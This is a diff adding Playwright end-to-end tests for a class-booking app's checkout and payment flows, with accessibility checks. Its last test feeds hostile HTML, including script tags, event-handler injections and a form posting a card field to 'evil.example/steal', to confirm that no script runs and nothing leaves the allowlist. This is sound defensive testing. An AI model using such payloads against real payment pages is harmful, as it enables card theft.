@@ -1,0 +1,175 @@
+import AxeBuilder from '@axe-core/playwright';
+import { expect, test, type Page } from '@playwright/test';
+import { DEMO } from '../../mock-server/demo-data.mjs';
+// @ts-expect-error -- plain ESM module without types (as in vite.config.ts)
+import { MOCK_URL } from '../../scripts/services.mjs';
+
+interface StoredPayment {
+  ClassCode: string;
+  PaymentID: string;
+  Status: string;
+}
+
+async function payments(code: string): Promise<StoredPayment[]> {
+  const response = await fetch(`${MOCK_URL}/__admin/db`);
+  const db = (await response.json()) as { payments: StoredPayment[] };
+  return db.payments.filter((payment) => payment.ClassCode === code);
+}
+
+async function signInAndOpen(page: Page, path: string) {
+  await page.goto(path);
+  await page.getByRole('main').getByRole('link', { name: 'Sign in' }).click();
+  await page.getByLabel('Email').fill(DEMO.student.email);
+  await page.getByLabel('Password').fill(DEMO.student.password);
+  await page.getByRole('button', { name: 'Sign in' }).click();
+  await expect(page).toHaveURL(new RegExp(`${path}$`));
+  await expect(page.getByRole('heading', { level: 1, name: 'Payment' })).toBeVisible();
+}
+
+const value = (page: Page, term: string) =>
+  page.locator('dt').filter({ hasText: new RegExp(`^${term}$`) }).locator('xpath=following-sibling::dd[1]');
+
+test.beforeEach(async () => {
+  const reset = await fetch(`${MOCK_URL}/__admin/reset`, { method: 'POST' });
+  expect(reset.ok).toBe(true);
+});
+
+const PRIVATE = DEMO.privateClass.code;
+const COURSE = DEMO.course.code;
+
+test('the private class checkout shows the class and the price lines, and passes axe', async ({ page }) => {
+  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
+  await expect(value(page, 'Class')).toHaveText(DEMO.privateClass.className);
+  await expect(value(page, 'Duration')).toHaveText('60 min');
+  // The date in the browser's zone, as formatClassTime writes it.
+  await expect(value(page, 'Date and time')).toHaveText(/\d{1,2}:\d{2} (AM|PM)/);
+  await expect(value(page, 'Session price')).toHaveText('500');
+  await expect(value(page, 'Transaction fee')).toHaveText('25');
+  await expect(value(page, 'Discount')).toHaveText('0');
+  await expect(value(page, 'Total')).toHaveText('525 INR');
+  await expect(page.getByRole('link', { name: /Back to the class/ })).toHaveAttribute('href', `/student-private-class/${PRIVATE}`);
+  const results = await new AxeBuilder({ page }).analyze();
+  expect(results.violations).toEqual([]);
+});
+
+test("'Pay' in the test checkout saves exactly one payment and returns to the class page", async ({ page }) => {
+  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
+  await page.getByRole('button', { name: 'Pay Now' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Test checkout' });
+  await expect(dialog).toBeVisible();
+  expect(await new AxeBuilder({ page }).analyze().then((r) => r.violations)).toEqual([]);
+  await dialog.getByRole('button', { name: 'Pay', exact: true }).click();
+  await expect(page).toHaveURL(new RegExp(`/student-private-class/${PRIVATE}$`));
+  const saved = await payments(PRIVATE);
+  expect(saved).toHaveLength(1);
+  expect(saved[0]).toMatchObject({ Status: 'captured' });
+  expect(await page.evaluate(() => localStorage.getItem('PAYMENT_OUTBOX'))).toBeNull();
+});
+
+test("'Fail' saves the failure response and shows 'Transaction Failed!'", async ({ page }) => {
+  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
+  await page.getByRole('button', { name: 'Pay Now' }).click();
+  await page.getByRole('dialog', { name: 'Test checkout' }).getByRole('button', { name: 'Fail' }).click();
+  await expect(page.getByRole('alertdialog', { name: 'Transaction Failed!' })).toBeVisible();
+  await expect.poll(async () => (await payments(PRIVATE)).map((p) => p.Status)).toEqual(['failed']);
+  await expect(page).toHaveURL(new RegExp(`/private-class-checkout/${PRIVATE}$`));
+});
+
+test("'Close' saves nothing and stays on the checkout, ready to pay again", async ({ page }) => {
+  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
+  await page.getByRole('button', { name: 'Pay Now' }).click();
+  await page.getByRole('dialog', { name: 'Test checkout' }).getByRole('button', { name: 'Close' }).click();
+  await expect(page.getByRole('button', { name: 'Pay Now' })).toBeEnabled();
+  await expect(page).toHaveURL(new RegExp(`/private-class-checkout/${PRIVATE}$`));
+  expect(await payments(PRIVATE)).toEqual([]);
+});
+
+test('the course checkout shows the course fee lines, no duration or date, and passes axe', async ({ page }) => {
+  await signInAndOpen(page, `/course-class-checkout/${COURSE}`);
+  await expect(value(page, 'Course')).toHaveText(DEMO.course.courseName);
+  await expect(value(page, 'Course fee')).toHaveText('2000');
+  await expect(value(page, 'Transaction fee')).toHaveText('100');
+  await expect(value(page, 'Discount')).toHaveText('0');
+  await expect(value(page, 'Total')).toHaveText('2100 INR');
+  await expect(page.locator('dt', { hasText: 'Duration' })).toHaveCount(0);
+  await expect(page.locator('dt', { hasText: 'Date and time' })).toHaveCount(0);
+  const results = await new AxeBuilder({ page }).analyze();
+  expect(results.violations).toEqual([]);
+});
+
+test("'Pay' for the course saves one payment and returns to the course class page", async ({ page }) => {
+  await signInAndOpen(page, `/course-class-checkout/${COURSE}`);
+  await page.getByRole('button', { name: 'Pay Now' }).click();
+  await page.getByRole('dialog', { name: 'Test checkout' }).getByRole('button', { name: 'Pay', exact: true }).click();
+  await expect(page).toHaveURL(new RegExp(`/student-course-class/${COURSE}$`));
+  expect(await payments(COURSE)).toEqual([expect.objectContaining({ Status: 'captured' })]);
+});
+
+test('a payment whose save keeps failing survives two reloads and ends up saved exactly once', async ({ page }) => {
+  test.setTimeout(120_000);
+  const outbox = () => page.evaluate(() => JSON.parse(localStorage.getItem('PAYMENT_OUTBOX') ?? '[]') as { attempts: number }[]);
+  const faults = await fetch(`${MOCK_URL}/__admin/faults`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ rules: [{ path: '/SavePrivateClassPaymentDetails', status: 503 }] }),
+  });
+  expect(faults.ok).toBe(true);
+  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
+  await page.getByRole('button', { name: 'Pay Now' }).click();
+  await page.getByRole('dialog', { name: 'Test checkout' }).getByRole('button', { name: 'Pay', exact: true }).click();
+  await expect(page.getByText('Payment received — confirming with the school…')).toBeVisible();
+  await expect(page.getByText(/will be sent again automatically/)).toBeVisible({ timeout: 30_000 });
+  expect(await outbox()).toEqual([expect.objectContaining({ attempts: 1 })]);
+  expect(await payments(PRIVATE)).toEqual([]);
+
+  await page.reload(); // the app start flush fails again
+  await expect.poll(async () => (await outbox())[0]?.attempts, { timeout: 30_000 }).toBe(2);
+  expect(await payments(PRIVATE)).toEqual([]);
+
+  expect((await fetch(`${MOCK_URL}/__admin/faults`, { method: 'DELETE' })).ok).toBe(true);
+  await page.reload(); // now the flush gets through
+  await expect.poll(async () => (await payments(PRIVATE)).map((p) => p.Status), { timeout: 30_000 }).toEqual(['captured']);
+  await expect.poll(outbox).toEqual([]);
+});
+
+test('the hosted payment page: Pay there brings the result back, saved once, and lands on the class page', async ({ page }) => {
+  const code = DEMO.hostedPrivateClass.code;
+  await signInAndOpen(page, `/private-class-checkout/${code}`);
+  await page.getByRole('button', { name: 'Pay Now' }).click();
+  await expect(page.getByRole('heading', { name: 'Test payment page' })).toBeVisible();
+  await page.getByRole('button', { name: 'Pay', exact: true }).click();
+  await expect(page).toHaveURL(new RegExp(`/student-private-class/${code}$`));
+  expect(await payments(code)).toEqual([expect.objectContaining({ Status: 'captured' })]);
+});
+
+test('hostile wait-screen markup runs no script and posts nowhere outside the allowlist', async ({ page }) => {
+  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
+  const origin = new URL(page.url()).origin;
+  const posts: string[] = [];
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (request.method() === 'POST') posts.push(request.url());
+    if (new URL(request.url()).hostname === 'evil.example') foreign.push(request.url());
+  });
+  // The router keeps navigation state in history.state.usr: hand /payment a form the way the app would.
+  const openWith = async (markup: string) => {
+    await page.evaluate((paymentForm) => {
+      history.replaceState({ usr: { paymentForm }, key: 'e2e', idx: 0 }, '', '/payment');
+    }, markup);
+    await page.reload();
+  };
+
+  await openWith(
+    `<script>window.pwned = 1</script><form action="https://evil.example/steal" method="post" onsubmit="window.pwned = 2">` +
+      `<input type="hidden" name="card" value="x"><img src="x" onerror="window.pwned = 3"></form>`,
+  );
+  await expect(page.getByText(/not on the list of trusted payment providers/)).toBeVisible();
+  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
+
+  await openWith(
+    `<form action="${origin}/__provider/e2e-wait-screen" method="post" onsubmit="window.pwned = 4">` +
+      `<input type="hidden" name="order" value="o_1"><input type="hidden" name="submit" value="x"><script>window.pwned = 5</script></form>`,
+  );
+  await expect.poll(() => posts.filter((url) => url.startsWith(`${origin}/__provider/e2e-wait-screen`)).length).toBe(1);
+  expect(foreign).toEqual([]);
+});
